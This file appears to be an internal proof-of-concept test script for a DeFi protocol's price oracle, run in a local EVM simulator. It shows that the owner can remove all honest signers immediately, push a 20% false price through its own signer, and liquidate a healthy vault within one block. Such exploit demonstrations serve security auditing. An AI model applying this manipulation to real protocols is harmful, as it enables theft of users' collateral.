"""A2: remove_signer (immediate) hands the price to a signer announced a day earlier whose
announcement was harmless (median of 3 honest + 1 owner signer: the owner's report cannot
move it). In ONE block: owner removes the 3 honest signers, the owner's signer reports
+20 % (inside a 2,000 bps band), a healthy vault is liquidated.

Also: quorum-2 variant (two owner signers announced among 3 honest), and the freeze
variant (documented in docs/oracle.md §11: remaining signers go silent -> stale)."""
import sys
import boa
from eth_account import Account
from eth_utils import keccak
sys.path.insert(0, "tests/unit/clearing_house")
from ch_helpers import open_vault
from ringfence.bench._real_oracle import deploy_protocol_real_oracle, svi_for_atm_vol
from ringfence.oracle_types import Report, sign_report
from ringfence.risk_table import ETH, WAD, oracle_governor

DAY = 86_400
QUORUM = int(sys.argv[1]) if len(sys.argv) > 1 else 1

real = deploy_protocol_real_oracle()
proto = real.proto
oracle = proto.oracle
gov = oracle_governor(oracle)
owner = gov.owner()
relayer = boa.env.generate_address("relayer2")
chain = boa.env.evm.patch.chain_id
bench_signer = Account.from_key(keccak(text="ringfence-bench-real-oracle-signer"))
honest = [bench_signer] + [Account.from_key(keccak(text=f"honest-{i}")) for i in range(2)]
evil = [Account.from_key(keccak(text=f"owner-signer-{i}")) for i in range(QUORUM)]
def now(): return boa.env.evm.patch.timestamp

def push(pairs):
    reps, sigs = [], []
    for r, acct in pairs:
        reps.append(r.as_tuple()); sigs.append(sign_report(r, acct.key, chain, oracle.address))
    with boa.env.prank(relayer):
        return oracle.submit(reps, sigs)

def honest_round(spot=2000 * WAD, vol=8 * 10**17, who=None):
    boa.env.time_travel(seconds=1)
    t = now()
    a, b, rho, m, sigma = svi_for_atm_vol(vol, proto.expiry - t)
    pairs = []
    for s in (who or honest):
        pairs.append((Report(ETH, 0, spot, observed_at=t), s))
        pairs.append((Report(ETH, proto.expiry, spot, a, b, rho, m, sigma, t), s))
    return push(pairs)

# --- day 0: everything announced (a realistic 20 % band, two more honest signers, the owner's signer(s))
with boa.env.prank(owner):
    gov.set_feed_params(ETH, DAY, 2_000, WAD)       # queued (priced feed)
    for s in honest[1:] + evil:
        gov.add_signer(s.address)                   # queued
    print("queued: feed params, signers", [s.address[:8] for s in honest[1:] + evil])
boa.env.time_travel(seconds=DAY // 2); honest_round(who=honest[:1])
boa.env.time_travel(seconds=DAY // 2)
gov.apply_feed_params(ETH)
for s in honest[1:] + evil:
    gov.apply_signer(s.address)
if QUORUM > 1:
    with boa.env.prank(owner):
        gov.set_quorum(QUORUM)
    boa.env.time_travel(seconds=DAY // 2); honest_round(who=honest[:1])
    boa.env.time_travel(seconds=DAY // 2)
    gov.apply_quorum()
print("signers:", len(oracle.signers()), "quorum:", oracle.quorum(), "band bps:", oracle.feed(ETH).spot_cap_bps)

# honest rounds; the owner's signers already report +20 % all along: median unmoved
honest_round()
t = now()
push([(Report(ETH, 0, 2400 * WAD, observed_at=t), e) for e in evil])
print("price with owner signers reporting 2400 among 3 honest at 2000:", oracle.price(ETH) / WAD)
assert oracle.price(ETH) == 2000 * WAD

trader = boa.env.generate_address("victim")
liq = boa.env.generate_address("liq")
proto.fund(trader, proto.units(100_000))
pid = None
for coll in range(2_000, 8_001, 100):   # the smallest collateral that opens (equity >= IM)
    try:
        with boa.env.anchor():
            open_vault(proto, trader, [(2000, True, -10)], coll)
    except Exception:
        continue
    pid = open_vault(proto, trader, [(2000, True, -10)], coll + 500)  # +500 units of headroom
    break
eq, im, mm = proto.ch.health(pid)
print(f"victim vault {pid}: equity {eq/WAD:.2f} IM {im/WAD:.2f} MM {mm/WAD:.2f} (healthy)")
assert eq >= im

# --- the attack, one block (no time passes)
honest_round()   # honest fresh, same block afterwards
blk = now()
with boa.env.prank(owner):
    for h in honest:
        gov.remove_signer(h.address)                 # immediate
print("after remove_signer x3 — signers:", [a[:8] for a in oracle.signers()], "quorum", oracle.quorum())
print("accepted:", push([(Report(ETH, 0, 2400 * WAD, observed_at=blk), e) for e in evil]))
print("price now:", oracle.price(ETH) / WAD, "held:", oracle.breaker_held(ETH))
eq, im, mm = proto.ch.health(pid)
print(f"victim vault: equity {eq/WAD:.2f} MM {mm/WAD:.2f}")
with boa.env.prank(liq):
    proto.ch.liquidate(pid)
assert now() == blk
print("BROKEN: healthy vault liquidated in the block of the governance action; timestamp", blk,
      "| liquidator free balance:", proto.ch.free_balance(liq))
